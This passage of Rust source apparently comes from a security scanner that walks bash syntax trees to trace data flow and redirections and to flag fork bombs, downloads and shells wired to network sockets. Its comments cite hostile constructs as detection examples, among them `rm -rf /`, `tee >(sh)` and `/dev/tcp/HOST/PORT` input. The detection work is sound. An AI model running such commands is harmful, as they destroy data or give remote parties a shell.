//! Walking brush-parser's syntax tree. Every node kind is matched by name
//! (no catch-all arms), so a new kind in a parser upgrade fails to compile
//! instead of being skipped. Simple commands go to [`Scanner::simple`];
//! everything else is structure: lists, pipelines, compound commands,
//! function definitions, redirections and `[[ … ]]` tests.

use brush_parser::ast::{
    AndOr, AndOrList, Assignment, AssignmentName, AssignmentValue, CaseItemPostAction, Command,
    CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, CompoundListItem, ExtendedTestExpr,
    FunctionBody, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
    ProcessSubstitutionKind, Program, RedirectList, SeparatorOperator, SimpleCommand,
    SubshellCommand, UnaryPredicate,
};

use crate::arg::{self, Arg, Taint};
use crate::checks::fork_bomb;
use crate::flow::Flow;
use crate::parse::Parsed;
use crate::paths::Write;
use crate::plain::PlainList;
use crate::scanner::Scanner;
use crate::vars::Value;
use crate::word::MAX_VARIANTS;

/// Deepest a function is judged inside calls of itself.
const MAX_FUNCTION_DEPTH: usize = 2;
/// Most function calls judged in one judgement (each walks its body again).
const MAX_FUNCTION_CALLS: usize = 64;

/// Highest array index an assignment (`a[N]=v`) is followed at; past it the
/// value is taken as added at the end.
const MAX_ARRAY_INDEX: usize = 1024;

/// A redirection of one simple command, read.
enum Redirect {
    /// Output into a path (each path it can be).
    Write(Vec<Arg>, Write),
    /// stdin from somewhere.
    Input(Flow),
    /// Output into a process: `>(cmd)` on descriptor `fd` (`None`:
    /// stdout), walked once the command's output is known.
    IntoProcess(Option<i32>, SubshellCommand),
    /// `>(cmd)` as an argument: a file the command may write (`tee
    /// >(sh)` writes its input there), walked once the command is.
    ProcessArgument(SubshellCommand),
    /// Descriptor `fd` (not stdin) opened for reading what `Flow` holds.
    DescriptorInput(i32, Flow),
    /// stdout sent to descriptor `fd` (`>&3`).
    ToDescriptor(i32),
    /// stdin from a network socket (`< /dev/tcp/HOST/PORT`).
    Socket,
}

/// bash's network pseudo-files.
fn is_socket(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// What `>&WORD` takes as a descriptor rather than a file: digits, digits
/// and a `-` (move it), or `-` alone (close it).
fn names_descriptor(word: &str) -> bool {
    let digits = word.strip_suffix('-').unwrap_or(word);
    word == "-" || (!digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
}

impl Scanner<'_> {
    /// Walks a parsed text, whichever parser read it.
    pub(super) fn parsed(&mut self, parsed: &Parsed, stdin: &Flow) -> Flow {
        match parsed {
            Parsed::Tree(program) => self.program(program, stdin),
            Parsed::Plain(lists) => self.plain(lists, stdin),
        }
    }

    /// Walks the lists of a plain text ([`crate::plain`]) as [`Self::list`]
    /// walks the same text parsed by brush-parser.
    pub(super) fn plain(&mut self, lists: &[PlainList], stdin: &Flow) -> Flow {
        let mut out = Flow::empty();
        for list in lists {
            let flow = self.and_or_of(&list.pipelines, &[], stdin, |s, stages, input| {
                s.pipeline_of(stages, input, list.background, |s, words, input| {
                    s.run_lines(std::slice::from_ref(words), input)
                })
            });
            out = out.then(flow);
        }
        out
    }

    pub(super) fn program(&mut self, program: &Program, stdin: &Flow) -> Flow {
        let mut out = Flow::empty();
        for list in &program.complete_commands {
            out = out.then(self.list(list, stdin));
        }
        out
    }

    pub(super) fn list(&mut self, list: &CompoundList, stdin: &Flow) -> Flow {
        self.list_depth += 1;
        let depth = self.list_depth;
        let mut out = Flow::empty();
        for CompoundListItem(and_or, separator) in &list.0 {
            let background = match separator {
                SeparatorOperator::Async => true,
                SeparatorOperator::Sequence => false,
            };
            let flow = self.and_or(and_or, stdin, background);
            out = match self.stdout_sink_at(depth) {
                Some(sink) => {
                    sink.fed = std::mem::replace(&mut sink.fed, Flow::empty()).then(flow);
                    out
                }
                None => out.then(flow),
            };
        }
        self.list_depth -= 1;
        out
    }

    fn and_or(&mut self, list: &AndOrList, stdin: &Flow, background: bool) -> Flow {
        let rest = list.additional.iter().map(|next| match next {
            AndOr::And(p) | AndOr::Or(p) => p,
        });
        let pipelines: Vec<&Pipeline> = std::iter::once(&list.first).chain(rest).collect();
        let ands: Vec<bool> = list
            .additional
            .iter()
            .map(|next| matches!(next, AndOr::And(_)))
            .collect();
        self.and_or_of(&pipelines, &ands, stdin, |s, pipeline, input| {
            // `timed` and `bang` change nothing about what runs.
            let Pipeline {
                timed: _,
                bang: _,
                seq,
            } = pipeline;
            s.pipeline_of(seq, input, background, Self::command)
        })
    }

    /// Pipelines joined by `&&` and `||` (`ands`: whether each join after
    /// the first pipeline is `&&`; missing ones count as `||`), each walked
    /// by `walk`.
    fn and_or_of<P>(
        &mut self,
        pipelines: &[P],
        ands: &[bool],
        stdin: &Flow,
        mut walk: impl FnMut(&mut Self, &P, &Flow) -> Flow,
    ) -> Flow {
        let Some((first, rest)) = pipelines.split_first() else {
            return Flow::empty();
        };
        self.cd_seen = None;
        let start = self.start();
        let mut out = walk(self, first, stdin);
        let mut moved = self.cd_seen.is_some();
        // What follows `&&` or `||` may not run.
        self.vars.branching += 1;
        // Every pipeline so far ran on each way of reaching this one.
        let mut certain = true;
        for (i, pipeline) in rest.iter().enumerate() {
            let and = ands.get(i).copied().unwrap_or(false);
            if and && certain {
                // A `cd` just before `&&` succeeded for what follows it.
                self.settle_cd();
            } else {
                // After `||`, or an `&&` that a `||` before it may skip to,
                // the shell may be anywhere the list has been.
                self.cd_seen = None;
                if moved {
                    self.may_be_back(&start);
                }
            }
            certain &= and;
            out = out.then(walk(self, pipeline, stdin));
            moved |= self.cd_seen.is_some();
        }
        self.vars.branching -= 1;
        // After the list, a `cd` in it may or may not have happened.
        self.cd_seen = None;
        if moved {
            self.may_be_back(&start);
        }
        out
    }

    /// The stages of one pipeline, each walked by `walk` reading what the
    /// stage before it printed.
    fn pipeline_of<C>(
        &mut self,
        seq: &[C],
        stdin: &Flow,
        background: bool,
        mut walk: impl FnMut(&mut Self, &C, &Flow) -> Flow,
    ) -> Flow {
        let outer = self.fanned_out;
        self.fanned_out = outer || background || seq.len() > 1;
        let mut flow = stdin.clone();
        let mut upstream = Taint::default();
        for (i, command) in seq.iter().enumerate() {
            let input = if i == 0 {
                stdin.clone()
            } else {
                // Taint stays with the text through filters and tee.
                Flow {
                    taint: flow.taint.union(upstream),
                    ..flow.clone()
                }
            };
            upstream = upstream.union(input.taint);
            // Each stage of a pipeline of two or more, and a job in the
            // background, runs in a subshell of its own.
            flow = if background || seq.len() > 1 {
                self.subshell(|s| walk(s, command, &input))
            } else {
                walk(self, command, &input)
            };
        }
        self.fanned_out = outer;
        flow
    }

    fn command(&mut self, command: &Command, stdin: &Flow) -> Flow {
        match command {
            Command::Simple(simple) => self.simple(simple, stdin),
            Command::Compound(compound, redirects) => {
                // A group's descriptors are its own (`{ …; } 3<f`).
                let saved = self.save_descriptors();
                let (stdin, into) = self.redirect_list(redirects.as_ref(), "", stdin);
                let out = self.compound(compound, &stdin);
                self.feed_processes(into, &out);
                self.restore_descriptors(saved);
                out
            }
            Command::Function(definition) => {
                let name = self.expand(&definition.fname.value);
                let name = name.first().map(|a| a.text.to_string()).unwrap_or_default();
                self.defined.push((name.clone(), definition.body.clone()));
                // Where it is defined nothing runs yet: what would block
                // stays (conservatively), warnings wait for a call, which
                // judges the body again with its arguments.
                let start = self.judgement.findings.len();
                self.function_body(&name, &definition.body, false);
                let found: Vec<_> = self.judgement.findings.drain(start..).collect();
                for finding in found {
                    if finding.rule.severity == crate::rule::Severity::Block {
                        self.judgement.push(finding);
                    }
                }
                Flow::empty()
            }
            Command::ExtendedTest(test, redirects) => {
                self.test_expr(&test.expr);
                let saved = self.save_descriptors();
                let (_, into) = self.redirect_list(redirects.as_ref(), "[[", stdin);
                self.feed_processes(into, &Flow::empty());
                self.restore_descriptors(saved);
                Flow::empty()
            }
        }
    }

    /// Walks the body of function `name`: where it is defined, its
    /// positional parameters unknown, and again at each call
    /// ([`Self::call_function`]) with the call's arguments.
    /// `runs`: it is a call, so the body runs (at the definition it may not).
    pub(super) fn function_body(&mut self, name: &str, body: &FunctionBody, runs: bool) -> Flow {
        let FunctionBody(body, redirects) = body;
        self.functions.push(name.to_owned());
        let outer = std::mem::replace(&mut self.fanned_out, false);
        let saved = self.save_descriptors();
        let (stdin, into) = self.redirect_list(redirects.as_ref(), "", &Flow::inherited());
        let maybe = usize::from(!runs);
        self.vars.branching += maybe;
        let out = self.compound(body, &stdin);
        self.feed_processes(into, &out);
        self.vars.branching -= maybe;
        self.restore_descriptors(saved);
        self.fanned_out = outer;
        self.functions.pop();
        out
    }

    /// A call of a function the command defined: its body judged with `$1`…
    /// bound to `args`. `None` when `name` is no such function, or the call
    /// nests too deep (the body was judged where it was defined).
    pub(super) fn call_function(&mut self, name: &str, args: &[Arg]) -> Option<Flow> {
        let body = self
            .defined
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .map(|(_, body)| body.clone())?;
        // Counted on the nesting trail, which substitutions keep (a call
        // through `$(f …)` is as deep as a direct one).
        let marker = format!("{name}()");
        let depth = self.via.iter().filter(|v| **v == marker).count();
        if depth >= MAX_FUNCTION_DEPTH || self.function_calls >= MAX_FUNCTION_CALLS {
            return Some(Flow::unknown());
        }
        self.function_calls += 1;
        let positional = crate::vars::Positional {
            zero: None,
            args: args.to_vec(),
        };
        let outer = self.vars.positional.replace(positional);
        let out = self.inside(&marker, |s| s.function_body(name, &body, true));
        self.vars.positional = outer;
        Some(out)
    }

    /// Whether the function `name` (the last definition of it) recurses
    /// only in a bounded way ([`fork_bomb::bounded`]).
    fn bounded_recursion(&self, name: &str) -> bool {
        self.defined
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .is_some_and(|(_, body)| fork_bomb::bounded(name, body))
    }

    fn test_expr(&mut self, expr: &ExtendedTestExpr) {
        match expr {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.test_expr(a);
                self.test_expr(b);
            }
            ExtendedTestExpr::Not(a) | ExtendedTestExpr::Parenthesized(a) => self.test_expr(a),
            // `-v NAME` and `-R NAME` evaluate NAME's subscript; `[[ ]]`
            // does not split the word.
            ExtendedTestExpr::UnaryTest(
                UnaryPredicate::ShellVariableIsSetAndAssigned
                | UnaryPredicate::ShellVariableIsSetAndNameRef,
                word,
            ) => {
                for name in self.expand_value(&word.value) {
                    self.name_taken(&name);
                }
            }
            ExtendedTestExpr::UnaryTest(_, word) => {
                self.expand(&word.value);
            }
            ExtendedTestExpr::BinaryTest(op, left, right) => {
                let operands = [self.expand(&left.value), self.expand(&right.value)];
                // `-eq` and kin evaluate both sides as arithmetic.
                let op = op.to_string();
                if matches!(op.as_str(), "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge") {
                    // `[[ ]]` does not split words: one operand is one text.
                    for words in &operands {
                        let text: Vec<&str> = words.iter().map(|a| a.text.as_str()).collect();
                        self.evaluate(&text.join(" "), words.iter().all(|a| a.exact));
                    }
                }
            }
        }
    }

    fn compound(&mut self, compound: &CompoundCommand, stdin: &Flow) -> Flow {
        match compound {
            CompoundCommand::Arithmetic(arithmetic) => {
                self.arithmetic(&arithmetic.expr.value);
                // brush-parser reads `( (cmd) )` as `((cmd))`, but bash runs
                // nested subshells there: judge the text as code too.
                self.blocks_only(&arithmetic.expr.value, "( ( ... ) )");
                Flow::empty()
            }
            CompoundCommand::ArithmeticForClause(clause) => {
                for expr in [&clause.initializer, &clause.condition, &clause.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&expr.value);
                }
                self.repeated(|s| s.list(&clause.body.list, stdin))
            }
            CompoundCommand::BraceGroup(group) => self.list(&group.list, stdin),
            CompoundCommand::Subshell(subshell) => self.subshell(|s| s.list(&subshell.list, stdin)),
            CompoundCommand::ForClause(clause) => {
                let mut values = Vec::new();
                for value in clause.values.iter().flatten() {
                    values.extend(self.expand_all(&value.value).into_iter().flatten());
                }
                // `for x; do`: the positional parameters, unknown.
                let values = match clause.values {
                    Some(_) => values.into_iter().map(Value::Scalar).collect(),
                    None => vec![Value::unknown("$@", Taint::default())],
                };
                self.vars.assign(&clause.variable_name, values, false);
                self.repeated(|s| s.list(&clause.body.list, stdin))
            }
            CompoundCommand::CaseClause(clause) => {
                self.expand(&clause.value.value);
                let mut out = Flow::empty();
                self.vars.branching += 1;
                for item in &clause.cases {
                    for pattern in &item.patterns {
                        self.expand(&pattern.value);
                    }
                    match item.post_action {
                        CaseItemPostAction::ExitCase
                        | CaseItemPostAction::UnconditionallyExecuteNextCaseItem
                        | CaseItemPostAction::ContinueEvaluatingCases => {}
                    }
                    if let Some(body) = &item.cmd {
                        out = out.then(self.list(body, stdin));
                    }
                }
                self.vars.branching -= 1;
                out
            }
            CompoundCommand::IfClause(clause) => {
                let mut out = self.list(&clause.condition, stdin);
                self.vars.branching += 1;
                out = out.then(self.list(&clause.then, stdin));
                for branch in clause.elses.iter().flatten() {
                    if let Some(condition) = &branch.condition {
                        out = out.then(self.list(condition, stdin));
                    }
                    out = out.then(self.list(&branch.body, stdin));
                }
                self.vars.branching -= 1;
                out
            }
            CompoundCommand::WhileClause(clause) | CompoundCommand::UntilClause(clause) => {
                let until = matches!(compound, CompoundCommand::UntilClause(_));
                if fork_bomb::endless_spawner(&clause.0, &clause.1.list, until) {
                    self.report_text(
                        &crate::rule::FORK_BOMB,
                        &compound.to_string(),
                        "a loop without end starts a process in the background at every turn"
                            .into(),
                    );
                }
                self.repeated(|s| {
                    let out = s.list(&clause.0, stdin);
                    out.then(s.list(&clause.1.list, stdin))
                })
            }
            CompoundCommand::Coprocess(coprocess) => {
                if let Some(name) = &coprocess.name {
                    self.expand(&name.value);
                }
                let outer = std::mem::replace(&mut self.fanned_out, true);
                self.command(&coprocess.body, stdin);
                self.fanned_out = outer;
                Flow::unknown()
            }
        }
    }

    /// Walks a loop's body, which may run any number of times.
    fn repeated(&mut self, walk: impl FnOnce(&mut Self) -> Flow) -> Flow {
        self.vars.branching += 1;
        let out = walk(self);
        self.vars.branching -= 1;
        out
    }

    /// Judges the redirections of a compound command or test; returns its
    /// stdin, and the processes its output goes into (`{ …; } > >(sh)`),
    /// to walk once that output is known ([`Self::feed_processes`]).
    fn redirect_list(
        &mut self,
        list: Option<&RedirectList>,
        what: &str,
        stdin: &Flow,
    ) -> (Flow, Vec<(Option<i32>, SubshellCommand)>) {
        let mut into = Vec::new();
        let mut stdin = stdin.clone();
        let mut words = vec![Arg::literal(what)];
        words.retain(|w| !w.text.is_empty());
        for redirect in list.iter().flat_map(|l| l.0.iter()) {
            match self.redirect(redirect) {
                Some(Redirect::Write(targets, write)) => {
                    for target in &targets {
                        self.write_target(&words, target, write);
                    }
                }
                Some(Redirect::Input(flow)) => stdin = flow,
                Some(Redirect::IntoProcess(fd, subshell)) => into.push((fd, subshell)),
                // (Only a simple command has arguments.)
                Some(Redirect::ProcessArgument(subshell)) => {
                    self.subshell(|s| {
                        s.inside(">(...)", |s| s.list(&subshell.list, &Flow::unknown()))
                    });
                }
                // `{ bash /dev/fd/3; } 3<<< '…'`: the group's own, undone
                // after it by the caller.
                Some(Redirect::DescriptorInput(fd, flow)) => self.hold_text(fd, flow),
                Some(Redirect::Socket | Redirect::ToDescriptor(_)) | None => {}
            }
        }
        (stdin, into)
    }

    /// Walks each process a compound command's output goes into: its
    /// stdout's (`> >(sh)`) reads `out`; another descriptor's, text the
    /// command does not show.
    fn feed_processes(&mut self, into: Vec<(Option<i32>, SubshellCommand)>, out: &Flow) {
        for (fd, subshell) in into {
            let fed = match fd {
                None | Some(1) => out.clone(),
                Some(_) => Flow::unknown(),
            };
            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &fed)));
        }
    }

    fn redirect(&mut self, redirect: &IoRedirect) -> Option<Redirect> {
        let reads_stdin = |fd: &Option<i32>| fd.is_none_or(|fd| fd == 0);
        match redirect {
            IoRedirect::File(fd, kind, target) => {
                let write = match kind {
                    IoFileRedirectKind::Write | IoFileRedirectKind::Clobber => Some(Write::Replace),
                    IoFileRedirectKind::Append => Some(Write::Append),
                    IoFileRedirectKind::ReadAndWrite => Some(Write::Modify),
                    IoFileRedirectKind::Read
                    | IoFileRedirectKind::DuplicateInput
                    | IoFileRedirectKind::DuplicateOutput => None,
                };
                match target {
                    IoFileRedirectTarget::Filename(word) => {
                        let targets: Vec<Arg> = self
                            .expand_all(&word.value)
                            .into_iter()
                            .filter_map(|fields| fields.into_iter().next())
                            .collect();
                        let arg = targets.first().cloned().unwrap_or_default();
                        let reads = matches!(
                            kind,
                            IoFileRedirectKind::Read | IoFileRedirectKind::ReadAndWrite
                        );
                        self.opened(fd.unwrap_or(if reads { 0 } else { 1 }), &targets);
                        if is_socket(&arg.text)
                            && let Some(fd) = fd.filter(|fd| *fd > 2)
                            && !self.sockets.contains(&fd)
                        {
                            self.sockets.push(fd);
                        }
                        match write {
                            Some(write) => Some(Redirect::Write(targets, write)),
                            None if is_socket(&arg.text) => Some(Redirect::Socket),
                            None if reads_stdin(fd) => Some(Redirect::Input(self.file_flow(&arg))),
                            None => {
                                fd.map(|fd| Redirect::DescriptorInput(fd, self.file_flow(&arg)))
                            }
                        }
                    }
                    IoFileRedirectTarget::Fd(from) => {
                        let input = matches!(kind, IoFileRedirectKind::DuplicateInput);
                        self.copy_descriptor(fd.unwrap_or(if input { 0 } else { 1 }), Some(*from));
                        // `<&3`: stdin is what descriptor 3 holds.
                        if input && reads_stdin(fd) {
                            self.descriptor_text(*from).map(Redirect::Input)
                        } else {
                            None
                        }
                    }
                    IoFileRedirectTarget::Duplicate(word)
                        if matches!(kind, IoFileRedirectKind::DuplicateOutput)
                            && fd.is_none_or(|fd| fd == 1) =>
                    {
                        // `>&WORD` and `1>&WORD`: a descriptor when WORD
                        // expands to digits (maybe with a trailing `-`) or
                        // to `-`; otherwise bash opens WORD for stdout and
                        // stderr, as `&>WORD` does. A word the text does
                        // not give may be either, so it counts as a write
                        // of a target nobody can know.
                        let variants: Vec<Arg> = self
                            .expand_all(&word.value)
                            .into_iter()
                            .filter_map(|fields| fields.into_iter().next())
                            .collect();
                        let socket = variants.iter().any(|t| is_socket(&t.text));
                        self.duplicated(1, &variants);
                        let files: Vec<Arg> = variants
                            .into_iter()
                            .filter(|t| !(t.exact && names_descriptor(&t.text)))
                            .collect();
                        if !files.is_empty() {
                            self.opened(1, &files);
                            self.opened(2, &files);
                        }
                        let descriptor = || {
                            let word = word.value.trim_end_matches('-');
                            word.parse::<i32>().ok().map(Redirect::ToDescriptor)
                        };
                        if files.is_empty() {
                            if socket {
                                Some(Redirect::Socket)
                            } else {
                                descriptor()
                            }
                        } else {
                            Some(Redirect::Write(files, Write::Replace))
                        }
                    }
                    // `<&3`: stdin is what descriptor 3 holds.
                    IoFileRedirectTarget::Duplicate(word)
                        if matches!(kind, IoFileRedirectKind::DuplicateInput)
                            && reads_stdin(fd)
                            && let Some(flow) = word
                                .value
                                .trim_end_matches('-')
                                .parse::<i32>()
                                .ok()
                                .and_then(|n| self.descriptor_text(n)) =>
                    {
                        let target = self.expand(&word.value);
                        self.duplicated(0, &target);
                        Some(Redirect::Input(flow))
                    }
                    IoFileRedirectTarget::Duplicate(word) => {
                        let target = self.expand(&word.value);
                        let input = matches!(kind, IoFileRedirectKind::DuplicateInput);
                        self.duplicated(fd.unwrap_or(if input { 0 } else { 1 }), &target);
                        let socket_fd = |t: &Arg| {
                            t.exact_text()
                                .and_then(|n| n.parse::<i32>().ok())
                                .is_some_and(|n| self.sockets.contains(&n))
                        };
                        target
                            .iter()
                            .any(|t| is_socket(&t.text) || socket_fd(t))
                            .then_some(Redirect::Socket)
                    }
                    IoFileRedirectTarget::ProcessSubstitution(kind, subshell) => {
                        let reads = matches!(kind, ProcessSubstitutionKind::Read);
                        self.close_descriptor(fd.unwrap_or(if reads { 0 } else { 1 }));
                        match kind {
                            ProcessSubstitutionKind::Read => {
                                let flow = self.subshell(|s| {
                                    s.inside("<(...)", |s| {
                                        s.list(&subshell.list, &Flow::inherited())
                                    })
                                });
                                Some(match fd {
                                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
                                    _ => Redirect::Input(flow),
                                })
                            }
                            ProcessSubstitutionKind::Write => {
                                Some(Redirect::IntoProcess(*fd, subshell.clone()))
                            }
                        }
                    }
                }
            }
            IoRedirect::HereDocument(fd, doc) => {
                self.close_descriptor(fd.unwrap_or(0));
                let body = self.expand_heredoc(&doc.doc.value, doc.requires_expansion);
                let flow = if body.exact {
                    Flow::literal(body.text.into_string())
                } else {
                    Flow::tainted(body.taint)
                };
                Some(match fd {
                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
                    _ => Redirect::Input(flow),
                })
            }
            IoRedirect::HereString(fd, word) => {
                self.close_descriptor(fd.unwrap_or(0));
                // Each value the word can have is a line of the text.
                let variants = self.expand_all(&word.value);
                let words = || variants.iter().flatten();
                let exact = words().all(|w| w.exact);
                let taint = words().fold(Taint::default(), |t, w| t.union(w.taint));
                let flow = if exact {
                    let lines: Vec<String> = variants
                        .iter()
                        .map(|fields| format!("{}\n", arg::display_plain(fields)))
                        .collect();
                    Flow::literal(lines.concat())
                } else {
                    Flow::tainted(taint)
                };
                Some(match fd {
                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
                    _ => Redirect::Input(flow),
                })
            }
            IoRedirect::OutputAndError(word, append) => {
                let targets: Vec<Arg> = self
                    .expand_all(&word.value)
                    .into_iter()
                    .filter_map(|fields| fields.into_iter().next())
                    .collect();
                let write = if *append {
                    Write::Append
                } else {
                    Write::Replace
                };
                self.opened(1, &targets);
                self.opened(2, &targets);
                Some(Redirect::Write(targets, write))
            }
        }
    }

    /// A redirection opened descriptor `fd` on `targets` (each word it
    /// can be): a file, or another descriptor reopened (`4</dev/fd/3`).
    fn opened(&mut self, fd: i32, targets: &[Arg]) {
        let reopened = targets
            .iter()
            .find_map(|t| t.exact_text().and_then(crate::descriptors::descriptor_of));
        match reopened {
            Some(from) => self.copy_descriptor(fd, Some(from)),
            None => self.open_descriptor(fd, targets.to_vec()),
        }
    }

    /// `fd>&WORD`, `fd<&WORD`: a copy of the descriptor WORD names
    /// (`3>&1`, `3<&5-` which also closes 5), or `fd` closed (`3>&-`); a
    /// word the text does not give leaves `fd` unknown.
    fn duplicated(&mut self, fd: i32, words: &[Arg]) {
        let Some(word) = words.first().filter(|w| w.exact) else {
            self.close_descriptor(fd);
            return;
        };
        let moved = word.text.strip_suffix('-');
        let digits = moved.unwrap_or(&word.text);
        match digits.parse::<i32>() {
            Ok(from) if names_descriptor(&word.text) && !digits.is_empty() => {
                self.copy_descriptor(fd, Some(from));
                if moved.is_some() {
                    self.close_descriptor(from);
                }
            }
            _ => self.close_descriptor(fd),
        }
    }

    /// Records an assignment's values ([`crate::vars`]) and judges them.
    fn assignment(&mut self, assignment: &Assignment) {
        let (name, index) = match &assignment.name {
            AssignmentName::VariableName(name) => (name.as_str(), None),
            AssignmentName::ArrayElementName(name, index) => {
                // An indexed array's subscript is arithmetic.
                self.arithmetic(index);
                (name.as_str(), Some(index.as_str()))
            }
        };
        let target = self.nameref_target(name);
        let name = target.as_str();
        let values: Vec<Value> = match &assignment.value {
            AssignmentValue::Scalar(word) => {
                let values = self.expand_value(&word.value);
                for value in &values {
                    self.assigned(name, value);
                }
                match index {
                    None => values.into_iter().map(Value::Scalar).collect(),
                    Some(index) => self.element_assigned(name, index, &values),
                }
            }
            AssignmentValue::Array(items) => {
                let mut arrays: Vec<Vec<Arg>> = vec![Vec::new()];
                for (key, value) in items {
                    // `a=([i]=v)`: an indexed array's key is arithmetic,
                    // over text expanded twice.
                    if let Some(key) = key {
                        self.compound_key(&key.value);
                    }
                    let variants = self.expand_all(&value.value);
                    combine(&mut arrays, variants);
                }
                arrays.into_iter().map(Value::Array).collect()
            }
        };
        self.vars
            .assign(name, values, assignment.append && index.is_none());
    }

    /// The values of array `name` once `name[index]` is set to each of
    /// `values`: the element replaced (a known index) or added.
    fn element_assigned(&self, name: &str, index: &str, values: &[Arg]) -> Vec<Value> {
        let old = self
            .vars
            .get(name)
            .map_or_else(|| vec![Value::Array(Vec::new())], <[Value]>::to_vec);
        let mut out = Vec::new();
        for array in &old {
            for value in values {
                let mut items = array.elements();
                match index.trim().parse::<usize>() {
                    Ok(n) if n < MAX_ARRAY_INDEX => {
                        if items.len() <= n {
                            items.resize(n + 1, Arg::literal(""));
                        }
                        if let Some(slot) = items.get_mut(n) {
                            *slot = value.clone();
                        }
                    }
                    _ => items.push(value.clone()),
                }
                out.push(Value::Array(items));
            }
        }
        out
    }

    /// One simple command: its words expanded, its redirections judged, then
    /// the command itself ([`Scanner::call`]), once for each command line its
    /// variables can make. Returns what it prints.
    fn simple(&mut self, command: &SimpleCommand, stdin: &Flow) -> Flow {
        // Each command line the words can make, built word by word.
        let mut lines: Vec<Vec<Arg>> = vec![Vec::new()];
        let mut redirects = Vec::new();
        // A command's redirections open descriptors for it alone; `exec`'s
        // without a command, for the rest of the shell.
        let descriptors = self.save_descriptors();
        // `X=v cmd` sets X for cmd alone: cmd sees v, what comes after may
        // not (and the words of the line are expanded before it is set).
        let scoped = command.word_or_name.is_some();
        let mut for_the_command: Vec<(String, Option<Vec<Value>>)> = Vec::new();
        let prefix = command.prefix.iter().flat_map(|p| p.0.iter());
        for item in prefix {
            match item {
                CommandPrefixOrSuffixItem::AssignmentWord(assignment, _) => {
                    match (&assignment.name, scoped) {
                        (AssignmentName::VariableName(name), true) => {
                            let name = self.nameref_target(name);
                            let before = self.vars.take(&name);
                            let outer = self.vars.branching;
                            self.vars.branching = 0;
                            self.vars.put(&name, before.clone());
                            self.assignment(assignment);
                            self.vars.branching = outer;
                            let certain = self.vars.take(&name);
                            self.vars.put(&name, before);
                            if let Some(values) = certain.clone() {
                                self.vars.branching += 1;
                                self.vars.assign(&name, values, false);
                                self.vars.branching -= 1;
                            }
                            for_the_command.push((name, certain));
                        }
                        (_, scoped) => {
                            self.vars.branching += usize::from(scoped);
                            self.assignment(assignment);
                            self.vars.branching -= usize::from(scoped);
                        }
                    }
                }
                other => self.item(other, &mut lines, &mut redirects),
            }
        }
        if let Some(word) = &command.word_or_name {
            let variants = self.expand_all(&word.value);
            combine(&mut lines, variants);
        }
        for item in command.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, &mut lines, &mut redirects);
        }
        let first = lines.first().map_or(&[][..], Vec::as_slice);

        // `exec` alone: its redirections stay for the rest of the shell.
        let bare_exec = lines
            .iter()
            .all(|line| matches!(line.as_slice(), [only] if only.is("exec")));
        let mut input = stdin.clone();
        let mut into_process = Vec::new();
        let mut arguments = Vec::new();
        let mut to_descriptors = Vec::new();
        let mut socket = false;
        let mut writes = Vec::new();
        for redirect in redirects {
            match redirect {
                Redirect::Write(targets, write) => {
                    for target in targets {
                        socket |= is_socket(&target.text);
                        self.write_target(first, &target, write);
                        writes.push(target);
                    }
                }
                Redirect::Input(flow) => input = flow,
                Redirect::Socket => socket = true,
                // `exec > >(sh)`: all the shell prints from here on;
                // `exec 3> >(sh)`: what is written to descriptor 3, which
                // the text may not show all of.
                Redirect::IntoProcess(fd, subshell) if bare_exec => {
                    let fd = fd.unwrap_or(1);
                    self.sinks.push(crate::descriptors::Sink {
                        code: subshell,
                        fed: if fd == 1 {
                            Flow::empty()
                        } else {
                            Flow::unknown()
                        },
                        fd,
                        level: self.list_depth,
                    });
                }
                Redirect::IntoProcess(_, subshell) => into_process.push(subshell),
                Redirect::ProcessArgument(subshell) => arguments.push(subshell),
                Redirect::DescriptorInput(fd, flow) => self.hold_text(fd, flow),
                Redirect::ToDescriptor(fd) => to_descriptors.push(fd),
            }
        }
        if socket {
            // bash's /dev/tcp/HOST/PORT: a shell wired to it takes orders
            // from the network.
            input = Flow::tainted(Taint::DOWNLOAD);
        }
        let out = if bare_exec {
            Flow::empty()
        } else {
            let mut after: Vec<(String, Option<Vec<Value>>)> = Vec::new();
            for (name, certain) in for_the_command {
                after.push((name.clone(), self.vars.take(&name)));
                self.vars.put(&name, certain);
            }
            let out = self.run_lines(&lines, &input);
            for (name, values) in after {
                self.vars.put(&name, values);
            }
            // A descriptor opened for one command closes after it.
            self.restore_descriptors(descriptors);
            out
        };
        // `>&3`, `> /dev/fd/3`: into the process `exec 3> >(…)` made.
        let written_fds = writes
            .iter()
            .filter_map(|w| w.exact_text().and_then(crate::descriptors::descriptor_of));
        for fd in to_descriptors.into_iter().chain(written_fds) {
            if fd != 1 {
                self.feed_descriptor(fd, &out);
            }
        }
        // `curl URL > f`, `curl URL | cat > f`: the file holds a download.
        if out.taint.download() {
            for target in writes.iter().filter_map(crate::downloads::known_path) {
                self.note_download(target);
            }
        }
        // `echo 'rm -rf /' > x.sh`: what the file now holds, in case the
        // command runs it later (`sh x.sh`, `. x.sh`, `./x.sh`).
        for target in writes.iter().filter_map(Arg::exact_text) {
            self.note_written(target, out.literal_text());
        }
        for subshell in into_process {
            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &out)));
        }
        if !arguments.is_empty() {
            let written = self.written_into_arguments(&lines, &input);
            for subshell in arguments {
                self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &written)));
            }
        }
        out
    }

    /// What a command writes into a process substitution it is given as a
    /// file (`>(cmd)`): `tee` its input, `dd` its input or its `if=` file;
    /// what other programs write there is not known.
    fn written_into_arguments(&self, lines: &[Vec<Arg>], input: &Flow) -> Flow {
        let mut written: Option<Flow> = None;
        for line in lines {
            let command = crate::call::without_wrappers(line);
            let name = match command.first().map(crate::program::program) {
                Some(crate::program::Program::Named(name)) => name,
                _ => String::new(),
            };
            let flow = match name.as_str() {
                "tee" => input.clone(),
